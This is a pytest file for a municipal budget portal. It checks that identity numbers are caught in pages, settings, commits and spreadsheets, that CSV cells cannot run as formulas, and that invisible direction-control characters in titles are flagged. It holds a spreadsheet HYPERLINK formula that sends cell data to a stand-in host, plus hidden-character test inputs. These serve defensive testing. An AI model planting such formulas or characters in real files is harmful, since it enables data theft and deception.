"""Trust in what is published: personal data is caught on every path to publication, not only
in decision files, and what others open (the CSV files, the titles on every page) cannot be made
to run or to read as something else.

Each test does what a communicator or a citizen does (writes a page, a setting, a commit, a
spreadsheet; opens a CSV file) and checks what they notice: the build refuses at the file, line
and column, or the published page or file holds the safe form. Identity numbers are computed
from dates in the 1890s (see test_personal_data), never copied from anywhere.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
import yaml

from gitrepo import git
from portal_factory import (HOW_TEXT, MEASURE_DEPRIORITISED, MEASURE_FUNDED, MKDOCS, MKDOCS_TEXT, PAGE_HOW,
                            load_problems, patch_file, patched, position, write_portal)
from test_personal_data import BORN, fodselsnummer, personnummer
from prioportal.checks.personal_data import ScanRules, scan_text
from prioportal.cli import main

NUMBER = fodselsnummer(BORN, 512)  # 14.03.1891
LEADING_ZERO = fodselsnummer(date(1891, 3, 5), 512)  # 05.03.1891: written as &#48;…, a 0
MASKED = NUMBER[:6] + "*****"
RULES = ScanRules(names=("Ola Nordmann",), phone_numbers=True, allowed_email_domains=("eksempelvik.kommune.no",))


def run(portal: Path, *args: str) -> int:
    return main(["-f", str(portal / "mkdocs.yml"), *args])


def the_problem_at(problems, path: str, line: int, column: int):
    found = [p for p in problems if (p.path, p.line, p.column) == (path, line, column)]
    assert len(found) == 1, f"expected one problem at {path}:{line}:{column}, got:\n" + "\n".join(map(str, problems))
    problem = found[0]
    assert NUMBER not in str(problem) and LEADING_ZERO not in str(problem)  # the number is never printed in full
    return problem


def site_text(site: Path) -> str:
    """Every text file of a built site, one after another, without spaces of any kind (so that
    a number split by a space is still one number here)."""
    texts = [p.read_text(encoding="utf-8", errors="replace") for p in sorted(site.rglob("*"))
             if p.is_file() and p.suffix in (".html", ".xml", ".ics", ".json", ".csv", ".txt")]
    return "".join("".join(texts).split())


# --- The corpus: no new false alarms, every true positive found -------------------------------

CORPUS = yaml.safe_load((Path(__file__).parent / "data" / "personal_data_corpus.yml").read_text(encoding="utf-8"))


def _forms() -> dict[str, str]:
    no, d = NUMBER, fodselsnummer(BORN, 600, d_number=True)
    se = personnummer(date(1893, 7, 2), 123, sep="")
    se_long = personnummer(date(1893, 7, 2), 123, long=True, sep="")
    sam = personnummer(date(1895, 11, 23), 456, samordning=True, sep="")
    return dict(no=no, no6=no[:6], no5=no[6:], d6=d[:6], d5=d[6:], se6=se[:6], se4=se[6:], se8=se_long[:8],
                sam6=sam[:6], sam4=sam[6:], no_account=f"{no[:4]}.{no[4:6]}.{no[6:]}",
                no_account_spaced=f"{no[:4]} {no[4:6]} {no[6:]}",
                no_entities="".join(f"&#{ord(c)};" for c in no), no_hex_entities="".join(f"&#x{ord(c):x};" for c in no))


FORMS = _forms()


@pytest.mark.parametrize("text", CORPUS["not_personal_data"])
def test_no_false_alarm_on_case_numbers_amounts_account_numbers_and_dates(text):
    assert [(f.kind, f.text) for f in scan_text(text.format(**FORMS), RULES)] == []


@pytest.mark.parametrize("text", CORPUS["phone_numbers"])
def test_a_phone_number_is_a_phone_number_and_never_an_identity_number(text):
    assert [f.kind for f in scan_text(text, RULES)] == ["phone"]


@pytest.mark.parametrize("entry", CORPUS["personal_data"], ids=lambda e: repr(e["text"]))
def test_every_way_of_splitting_or_hiding_a_number_is_found_where_it_is_written(entry):
    text = entry["text"].format(**FORMS)
    [finding] = scan_text(text, RULES)
    assert finding.kind == entry["kind"]
    # The finding covers the number as written: from its first character (or the entity that
    # writes it) to its last, so the problem points at it in the file.
    before, after = entry["text"].partition("{")[0], entry["text"].rpartition("}")[2]
    assert text[finding.start:finding.end] == text[len(before):len(text) - len(after)]


# --- Narrative pages: front matter, file name, entities, comments, split numbers ---------------

def test_a_number_in_a_pages_front_matter_stops_the_build_at_its_line(tmp_path):
    text = HOW_TEXT.replace("order: 20\n", f"order: 20\ndescription: Svar til søker {NUMBER}\n")
    problems = load_problems(write_portal(tmp_path, {PAGE_HOW: text}))
    problem = the_problem_at(problems, PAGE_HOW, *position(text, NUMBER))
    assert f"({MASKED}) must not be published" in problem.message


def test_a_number_in_a_pages_file_name_stops_the_build(tmp_path):
    page = f"content/svar-{NUMBER[:6]}-{NUMBER[6:]}.md"
    problems = load_problems(write_portal(tmp_path, {page: "---\ntitle: Svar\n---\nHei.\n"}))
    problem = the_problem_at(problems, page, 1, 1)
    assert "the file name holds a Norwegian national identity number" in problem.message
    assert "page's address" in problem.message and "rename the file" in problem.advice


def test_a_number_written_with_an_html_entity_is_found_at_the_entity(tmp_path):
    assert LEADING_ZERO.startswith("0")
    written = "&#48;" + LEADING_ZERO[1:]
    text = HOW_TEXT.replace("Alle tiltak", f"Søker {written}. Alle tiltak")
    problems = load_problems(write_portal(tmp_path, {PAGE_HOW: text}))
    problem = the_problem_at(problems, PAGE_HOW, *position(text, written))
    assert f"({LEADING_ZERO[:6]}*****)" in problem.message


def test_a_number_split_by_an_html_comment_is_found(tmp_path):
    written = f"{NUMBER[:6]}<!-- skjult -->{NUMBER[6:]}"
    text = HOW_TEXT.replace("Alle tiltak", f"Søker {written}. Alle tiltak")
    problems = load_problems(write_portal(tmp_path, {PAGE_HOW: text}))
    the_problem_at(problems, PAGE_HOW, *position(text, written))


@pytest.mark.parametrize("split", ["\u200b", "\u00a0", "\u2060", "\u202f"], ids=["zero-width", "no-break",
                                                                                 "word-joiner", "narrow-no-break"])
def test_a_number_split_by_an_invisible_or_no_break_space_is_found_in_pages_and_decision_files(tmp_path, split):
    written = NUMBER[:6] + split + NUMBER[6:]
    page = HOW_TEXT.replace("Alle tiltak", f"Søker {written}. Alle tiltak")
    measure = patched(MEASURE_FUNDED, "\ntitle: ", f"\ntitle: Svar {written} ")
    problems = load_problems(write_portal(tmp_path, {PAGE_HOW: page, MEASURE_FUNDED: measure}))
    the_problem_at(problems, PAGE_HOW, *position(page, written))
    the_problem_at(problems, MEASURE_FUNDED, *position(measure, written))


# --- mkdocs.yml ---------------------------------------------------------------------------------

def test_a_number_in_the_footer_or_an_own_text_of_mkdocs_yml_stops_the_build(tmp_path, capsys):
    footer = f"Sentralbord 22 33 44 55. Klage fra {NUMBER[:6]}&nbsp;{NUMBER[6:]}"
    settings = MKDOCS_TEXT.replace("      input_url: https://testvik.kommune.no/innspill\n",
                                   "      input_url: https://testvik.kommune.no/innspill\n"
                                   f"      brand:\n        footer: \"{footer}\"\n"
                                   f"      privacy: \"Vi lagrer ikke {NUMBER}.\"\n")
    root = write_portal(tmp_path, {MKDOCS: settings})
    assert run(root, "validate") == 1
    err = capsys.readouterr().err
    footer_at = position(settings, f"{NUMBER[:6]}&nbsp;")
    privacy_at = position(settings, NUMBER)
    assert (f"mkdocs.yml:{footer_at[0]}:{footer_at[1]}: a Norwegian national identity number (fødselsnummer) "
            f"({NUMBER[:6]} *****) must not be published — remove it from mkdocs.yml") in err
    assert f"mkdocs.yml:{privacy_at[0]}:{privacy_at[1]}: a Norwegian national identity number" in err
    assert NUMBER not in err and NUMBER[6:] not in err
    assert "22 33 44" not in err  # the municipality's own switchboard in the footer is no finding


def test_the_texts_of_mkdocs_yml_without_personal_data_build(tmp_path):
    settings = MKDOCS_TEXT.replace("      input_url: https://testvik.kommune.no/innspill\n",
                                   "      input_url: https://testvik.kommune.no/innspill\n"
                                   "      brand:\n        footer: \"Sentralbord 22 33 44 55, org.nr. 974 760 673\"\n")
    assert run(write_portal(tmp_path, {MKDOCS: settings}), "validate") == 0


# --- Git history: commit messages and earlier versions on the history pages and in the feeds --

@pytest.mark.usefixtures("git_program")
def test_a_number_in_a_commit_message_or_an_earlier_version_is_hidden_on_the_history_page(tmp_path, monkeypatch):
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    # Commit messages are published only when the settings say so; this portal does.
    settings = MKDOCS_TEXT.replace("      currency: NOK\n",
                                   "      currency: NOK\n      history:\n        show_commit_messages: true\n")
    root = write_portal(tmp_path / "repo", {MKDOCS: settings})
    git(root, "init", "-q")
    summary = f"Søknad fra {NUMBER} om kveldsåpent bibliotek."
    old_summary = "summary: Biblioteket holder åpent til klokken 21 tre dager i uken.\n"
    patch_file(root, MEASURE_DEPRIORITISED, old_summary, f"summary: {summary}\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Publiser budsjett 2025", when="2025-01-10T09:00:00+01:00")
    patch_file(root, MEASURE_DEPRIORITISED, f"summary: {summary}\n", old_summary)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", f"Fjernet {NUMBER[:6]}\u00a0{NUMBER[6:]} fra sammendraget",
        when="2025-03-01T09:00:00+01:00")

    assert run(root, "build") == 0
    page = (root / "site" / "measures" / "kveldsapent-bibliotek-2025" / "index.html").read_text(encoding="utf-8")
    assert "Fjernet [skjult] fra sammendraget" in page  # the commit message, the number hidden
    assert "Søknad fra [skjult] om kveldsåpent bibliotek." in page  # the earlier version, the number hidden
    assert NUMBER not in site_text(root / "site")  # nowhere on the site: pages, feeds, open data


# --- prioportal import ---------------------------------------------------------------------------

def test_a_number_in_a_spreadsheet_cell_stops_the_import_at_its_cell(portal_dir, tmp_path, capsys):
    table = tmp_path / "rangering.csv"
    table.write_text("Tiltak;Alvorlighet;Nytte;Ressurs;Rang\r\n"
                     f"Leksehjelp for {NUMBER[:6]}\u200b{NUMBER[6:]};Moderat;Stor;Moderat;4\r\n", encoding="utf-8")
    assert run(portal_dir, "import", str(table), "--round", "budsjett-2026") == 1
    err = capsys.readouterr().err
    assert (f"rangering.csv[rangering]:2:1: cell A2 (Tiltak): a Norwegian national identity number (fødselsnummer) "
            f"({MASKED}) must not be published — remove it from the sheet") in err
    assert NUMBER not in err
    assert not (portal_dir / "decisions" / "measures" / "2026").exists() or \
        not list((portal_dir / "decisions" / "measures" / "2026").glob("leksehjelp*"))


# --- CSV files a spreadsheet opens --------------------------------------------------------------

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klikk")'


def _with_formulas(tmp_path: Path) -> Path:
    """The portal with a measure whose title and summary a spreadsheet would run."""
    measure = patched(MEASURE_FUNDED, "title: Styrket hjemmetjeneste\n", f"title: '{FORMULA}'\n")
    measure = measure.replace("summary: Flere ansatte", "summary: '@SUM(1+1) er svaret.' # Flere ansatte", 1)
    return write_portal(tmp_path / "portal", {MEASURE_FUNDED: measure})


def test_open_data_csv_cells_that_would_run_as_formulas_start_with_a_quote(tmp_path):
    root = _with_formulas(tmp_path)
    assert run(root, "build") == 0
    folder = root / "site" / "open-data"
    raw = (folder / "measures.csv").read_text(encoding="utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw))}
    funded = rows["styrket-hjemmetjeneste-2025"]
    assert funded["title"] == "'" + FORMULA
    assert funded["summary"] == "'@SUM(1+1) er svaret."
    # pandas reads the same; numbers stay numbers, negative ones too (costs.csv of the demo).
    frame = pd.read_csv(folder / "measures.csv")
    assert frame.set_index("id").loc["styrket-hjemmetjeneste-2025", "title"] == "'" + FORMULA
    assert pd.api.types.is_integer_dtype(frame["cost_year_1"])
    # The JSON records keep the text as written: only the CSV files are for spreadsheets.
    records = json.loads((folder / "measures.json").read_text(encoding="utf-8"))
    assert next(r for r in records if r["id"] == "styrket-hjemmetjeneste-2025")["title"] == FORMULA


def test_a_negative_amount_stays_a_number_in_the_csv(make_portal, tmp_path):
    measure = patched(MEASURE_FUNDED, "year_1: 1 200 000\n", "year_1: -830 000\n")
    root = make_portal({MEASURE_FUNDED: measure})
    assert run(root, "build") == 0
    costs = pd.read_csv(root / "site" / "open-data" / "costs.csv")
    assert pd.api.types.is_integer_dtype(costs["year_1"])
    assert -830_000 in set(costs["year_1"])
    assert "'-830000" not in (root / "site" / "open-data" / "costs.csv").read_text(encoding="utf-8")


def test_export_csv_quotes_formulas_and_import_reads_them_back(tmp_path, capsys):
    root = _with_formulas(tmp_path)
    out = tmp_path / "budsjett-2025.csv"
    assert run(root, "export", "--round", "budsjett-2025", "--format", "csv", "--out", str(out)) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
    titles = [row[rows[0].index("Tiltak")] for row in rows[1:]]
    assert "'" + FORMULA in titles
    frame = pd.read_csv(out, sep=";", encoding="utf-8-sig")
    assert "'" + FORMULA in list(frame["Tiltak"])
    # The import takes the quote off again: the measure's file is left as it is.
    capsys.readouterr()
    assert run(root, "import", str(out), "--round", "budsjett-2025", "--update") == 0
    assert "0 updated" in capsys.readouterr().out


# --- Invisible characters in titles ----------------------------------------------------------------

@pytest.mark.parametrize("char, name", [("\u202e", "right-to-left override (U+202E)"),
                                        ("\u2066", "left-to-right isolate (U+2066)"),
                                        ("\u200b", "zero-width space (U+200B)")])
def test_a_direction_control_or_zero_width_character_in_a_title_stops_the_build_where_it_is(tmp_path, char, name):
    measure = patched(MEASURE_FUNDED, "\ntitle: ", f"\ntitle: Innvilget {char}")
    page = HOW_TEXT.replace("title: Slik prioriterer vi", f"title: Slik {char}prioriterer vi")
    problems = load_problems(write_portal(tmp_path, {MEASURE_FUNDED: measure, PAGE_HOW: page}))
    problem = the_problem_at(problems, MEASURE_FUNDED, *position(measure, char))
    assert problem.message == f"'title' holds an invisible {name}, which can make the text read differently " \
                              "from how it is written"
    assert the_problem_at(problems, PAGE_HOW, *position(page, char)).message == problem.message
